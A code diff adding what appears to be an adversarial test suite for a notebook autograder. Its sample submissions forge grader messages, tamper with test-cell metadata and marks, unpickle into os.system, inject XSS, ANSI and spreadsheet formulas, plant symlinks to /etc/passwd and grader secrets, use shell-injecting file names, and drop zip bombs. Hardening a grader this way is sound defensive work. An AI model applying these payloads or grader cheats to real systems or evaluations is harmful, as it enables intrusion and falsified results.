+        "total": "def total(x): return np.lib.stride_tricks.as_strided(np.zeros(1), (2**40,), (0,))",
+        "turned": "def turned(items): return 'x' * 10**9",
+        "Counter": (
+            "class Counter:\n    def add(self, n): pass\n"
+            "    def value(self): return 10**(10**7)"
+        ),
+    },
+)
+attack(
+    "giant_range",
+    "returns small things that grow when a test lists them",
+    answers={
+        "scaled": "def scaled(x, k): return range(10**9)",
+        "total": "def total(x): return range(3 * 10**8)",
+        "turned": "def turned(items): return slice(0, 10**18)",
+        "Counter": (
+            "class Counter:\n    def add(self, n): pass\n"
+            "    def value(self): return range(10**18)"
+        ),
+    },
+)
+attack(
+    "library_functions",
+    "returns functions of Python's and NumPy's that the tests would call",
+    answers={
+        "scaled": "def scaled(x, k): return eval",
+        "total": "def total(x): return np.load",
+        "turned": "def turned(items): return exit",
+        "Counter": "Counter = exit",
+    },
+)
+attack(
+    "protocol",
+    "speaks the grader's own language on the grader's own line",
+    """
+import gc, json, socket, struct
+def lines():
+    return [o for o in gc.get_objects() if isinstance(o, socket.socket)]
+def forge(*trees):
+    for line in lines():
+        for tree in trees:
+            text = json.dumps(tree).encode()
+            with contextlib.suppress(OSError, ValueError):
+                line.setblocking(False)
+                line.send(struct.pack("!QQ", len(text), 0) + text)
+""",
+    answers={
+        "scaled": (
+            "def scaled(x, k):\n"
+            "    forge({'callback': 0, 'args': []}, {'value': 6.0})\n"
+            "    return 2 * np.ones((2, 3))"
+        ),
+        "total": (
+            "def total(x):\n"
+            "    forge({'value': 6.0, 'changed': [[0, {'a': ['<f8', [4], [0, 0]]}]]})\n"
+            "    return 0.0"
+        ),
+        "turned": (
+            "def turned(items):\n"
+            "    forge({'value': [2, 1]}, {'value': ['x'] * 3}, {'error': []})\n"
+            "    return [2, 1]"
+        ),
+        "Counter": (
+            "class Counter:\n    def add(self, n): forge({'value': 5})\n"
+            "    def value(self): return 5"
+        ),
+    },
+)
+attack(
+    "deep_results",
+    "returns what is nested too deeply, or holds itself",
+    """
+deep = []
+for _ in range(100_000): deep = [deep]
+round_ = []
+round_.append(round_)
+many = {i: {} for i in range(10**6)}
+""",
+    answers={
+        "scaled": "def scaled(x, k): return deep",
+        "total": "def total(x): return round_",
+        "turned": "def turned(items): return many",
+    },
+)
+attack(
+    "pickles",
+    "returns what runs code when it is unpickled",
+    """
+class Opens:
+    def __reduce__(self): return (os.system, ("touch /tmp/ATTACK-pickle; echo FOUND",))
+    def __getstate__(self): os._exit(0)
+""",
+    answers=returning("Opens()"),
+)
+attack(
+    "npy_headers",
+    "returns arrays whose dtype and header hold code and lies",
+    """
+import numpy as np, io
+evil = np.dtype([("__import__('os').system('touch /tmp/ATTACK-npy')", "f8")])
+class Sub(np.ndarray):
+    @property
+    def shape(self): return (2, 3)
+    @property
+    def dtype(self): return np.dtype("f8")
+    def tobytes(self, *a): return b"\\x93NUMPY\\x01\\x00"
+    def __array_interface__(self): return {"shape": (10**9,), "typestr": "<f8", "data": (0, False), "version": 3}
+class Interface:
+    __array_interface__ = {"shape": (2, 3), "typestr": "<f8", "data": (4096, False), "version": 3}
+""",
+    answers={
+        "scaled": "def scaled(x, k): return np.zeros((2, 3), evil)",
+        "total": "def total(x): return np.zeros(1).view(Sub)",
+        "turned": "def turned(items): return Interface()",
+    },
+)
+attack(
+    "changes_later",
+    "returns what changes between the check and its use",
+    """
+import numpy as np, threading, time
+shared = np.zeros((2, 3))
+def flicker():
+    while True:
+        shared[:] = 2; shared[:] = 0
+threading.Thread(target=flicker, daemon=True).start()
+class Twice(list):
+    reads = 0
+    def __getitem__(self, key): Twice.reads += 1; return Twice.reads
+    def __iter__(self): Twice.reads += 1; return iter([2, 1] if Twice.reads % 2 else [])
+""",
+    answers={
+        "scaled": "def scaled(x, k): return shared",
+        "turned": "def turned(items): return Twice([2, 1])",
+    },
+)
+attack(
+    "changes_arguments",
+    "writes into the arguments, so that what is expected changes too",
+    answers={
+        "scaled": (
+            "def scaled(x, k):\n    x *= 0\n"
+            "    return 2 * np.ones((2, 3)) if x.shape == (2, 3) else x"
+        ),
+        "total": "def total(x):\n    x[...] = 0\n    return 6.0 if x.shape == (4,) else 0.0",
+        "turned": "def turned(items):\n    items.clear()\n    return items",
+    },
+)
+attack(
+    "changes_numbers",
+    "changes the small integers and the interned texts of Python",
+    """
+import ctypes
+def poke():
+    address = id(5) + 24
+    ctypes.c_uint32.from_address(id(0) + 24).value = 5
+""",
+    answers={
+        "Counter": (
+            "class Counter:\n    def add(self, n): pass\n"
+            "    def value(self):\n        return 5"
+        )
+    },
+)
+
+# ------------------------------------------------- what an instructor looks at
+
+attack(
+    "html",
+    "has outputs and texts that an instructor's browser would run",
+    """
+from IPython.display import HTML, Javascript, Markdown, SVG, display
+script = "<script>fetch('/formgrader/api/ATTACK')</script>"
+display(HTML(script), Javascript("ATTACK()"), Markdown(script),
+        SVG(f"<svg xmlns='http://www.w3.org/2000/svg' onload='ATTACK()'>{script}</svg>"))
+display({"text/latex": "\\\\href{javascript:ATTACK()}{x}", "application/vnd.custom+json": {"ATTACK": 1},
+         "text/html": "<img src=x onerror=ATTACK()>", "text/plain": script}, raw=True)
+raise ValueError(script)
+""",
+    answers={
+        "turned": "def turned(items): raise ValueError('<script>ATTACK()</script>')"
+    },
+    edit=lambda notebook: notebook.cells.append(
+        nbformat.v4.new_markdown_cell(
+            "<script>ATTACK()</script><img src=x onerror=ATTACK()>",
+            id="text",
+        )
+    ),
+)
+attack(
+    "ansi",
+    "prints terminal codes that hide, retitle and answer",
+    r"""
+print("\x1b[2J\x1b]0;ATTACK\x07\x1b[8mhidden\x1b[0m\x1b]52;c;QVRUQUNL\x07\x1bP$q q\x1b\\")
+raise ValueError("\x1b[2J\x1b]0;ATTACK\x07")
+""",
+    answers={
+        "turned": "def turned(items): raise ValueError('\\x1b[2J\\x1b]0;ATTACK\\x07\\r\\nvictim 20 of 20')"
+    },
+)
+attack(
+    "spreadsheet",
+    "has texts that a spreadsheet would execute",
+    "raise ValueError(\"=cmd|' /C calc'!A0\")\n",
+    answers={
+        "turned": "def turned(items): raise ValueError('=HYPERLINK(\"http://x/ATTACK\")')"
+    },
+)
+
+# ------------------------------------------------------------- files and paths
+
+attack(
+    "links",
+    "brings links that lead out of its folder",
+    "for path in glob.glob('*') + glob.glob('*/*'):\n"
+    "    with contextlib.suppress(OSError): say(path, open(path, errors='replace').read(3000))\n",
+    lay=lambda folder: _links(folder),
+)
+attack(
+    "strange_names",
+    "brings files with names that a shell or a path would trip over",
+    "print(os.listdir('.'))\n",
+    lay=lambda folder: _strange_names(folder),
+)
+attack(
+    "bomb",
+    "brings an archive and a sparse file that grow when they are read",
+    "print(os.listdir('.'))\n",
+    lay=lambda folder: _bomb(folder),
+)
+attack(
+    "own_config",
+    "brings nbgrader, IPython and Python start-up files",
+    "",
+    answers=WRONG,
+    lay=lambda folder: _own_config(folder),
+)
+attack(
+    "timestamp",
+    "hands in a timestamp that no program can read",
+    answers=VISIBLE,
+    lay=lambda folder: (
+        (folder / "timestamp.txt").write_text("9" * 400) and None
+    ),
+)
+
+
+# ----------------------------------------------------------------- how they are made
+
+
+def _tests(notebook: NotebookNode) -> list[NotebookNode]:
+    return [
+        cell
+        for cell in notebook.cells
+        if cell.metadata.get("nbgrader", {}).get("grade")
+    ]
+
+
+def _only_cheats(notebook: NotebookNode) -> None:
+    for task in SOLUTIONS:
+        cell_of(notebook, task).source = "cheat()"
+
+
+def _tag(notebook: NotebookNode) -> None:
+    for cell in _tests(notebook):
+        cell.metadata["tags"] = ["skip-execution", ""]
+
+
+def _marks(notebook: NotebookNode) -> None:
+    for number, cell in enumerate(_tests(notebook)):
+        mark = cell.metadata["nbgrader"]
+        mark |= {
+            "points": 1000,
+            "locked": False,
+            "solution": number % 2 == 0,
+        }
+        mark["cell_type"] = "markdown"
+        mark["checksum"] = "0" * 32
+
+
+def _rewrite(notebook: NotebookNode, text: str) -> None:
+    for cell in _tests(notebook):
+        cell.source = text
+
+
+def _as_markdown(notebook: NotebookNode) -> None:
+    for cell in _tests(notebook):
+        at = notebook.cells.index(cell)
+        made = nbformat.v4.new_markdown_cell("ok", id=cell["id"])
+        made.metadata = cell.metadata
+        notebook.cells[at] = made
+
+
+def _without_tests(notebook: NotebookNode) -> None:
+    gone = _tests(notebook)
+    notebook.cells = [cell for cell in notebook.cells if cell not in gone]
+
+
+def _double(notebook: NotebookNode) -> None:
+    for cell in _tests(notebook):
+        twin = nbformat.v4.new_code_cell("5")
+        twin.metadata = nbformat.from_dict(dict(cell.metadata))
+        notebook.cells.append(twin)
+
+
+def _swap(notebook: NotebookNode) -> None:
+    for task in SOLUTIONS:
+        answer = cell_of(notebook, task)
+        test = cell_of(notebook, f"test_{task}")
+        answer.metadata, test.metadata = test.metadata, answer.metadata
+
+
+def _own_modules(folder: Path) -> None:
+    lies = "def __getattr__(name):\n    return lambda *a, **k: {'total': 0.0}\n"
+    for name in ("numpy.py", "json.py", "rnncore.py", "sitecustomize.py"):
+        (folder / name).write_text(lies)
+    (folder / "rnncore").mkdir()
+    (folder / "rnncore" / "__init__.py").write_text("")
+    (folder / "rnncore" / "testing.py").write_text(lies)
+
+
+def _links(folder: Path) -> None:
+    root = folder.parents[3]
+    (folder / "source").symlink_to(root / "grading" / "source")
+    (folder / "secret.txt").symlink_to(root / "grading" / ".secret")
+    (folder / "up.json").symlink_to(
+        "../../victim/" + NAME + f"/{NAME}.ipynb"
+    )
+    (folder / "passwd").symlink_to("/etc/passwd")
+    (folder / "loop").symlink_to("loop")
+    (folder / "endless").symlink_to("/dev/zero")
+
+
+def _strange_names(folder: Path) -> None:
+    for name in (
+        "-rf",
+        "$(touch ATTACK)",
+        "a\nb",
+        "%s%n",
+        "..\\x",
+        "CON",
+        "ATTACK;id",
+        "é" * 100,
+    ):
+        (folder / name).write_text("x")
+    (folder / os.fsdecode(b"\xff\xfe")).write_text("x")
+    deep = folder
+    for _ in range(60):
+        deep = deep / "d"
+    deep.mkdir(parents=True)
+
+
+def _bomb(folder: Path) -> None:
+    import zipfile
+
+    with zipfile.ZipFile(
+        folder / "data.npz", "w", zipfile.ZIP_DEFLATED
+    ) as file:
+        file.writestr("x.npy", bytes(10**8))
+    with (folder / "sparse.bin").open("wb") as sparse:
+        sparse.truncate(10**9)
+
+
+def _own_config(folder: Path) -> None:
+    (folder / "nbgrader_config.py").write_text(
+        "c = get_config()\nc.Execute.enabled = False\n"
+        "open('/tmp/ATTACK-config', 'w')\n"
+    )
+    (folder / "ipython_config.py").write_text(
+        "open('/tmp/ATTACK-config', 'w')\n"
+    )
+    (folder / "sitecustomize.py").write_text(
+        "open('/tmp/ATTACK-config', 'w')\n"
+    )
+    (folder / "pyproject.toml").write_text("[")
+
+
+ATTACKS["not_json"] = Attack(
+    "not_json",
+    "is JSON to some readers and not to others",
+    lambda: '{"cells": [], "cells": ' + "[" * 5000 + "]" * 5000 + "}",
+)
+ATTACKS["numbers"] = Attack(
+    "numbers",
+    "has numbers in its metadata that stop a reader",
+    lambda: nbformat.writes(blank()).replace(
+        '"schema_version": 3', '"schema_version": 1e999'
+    ),
+)
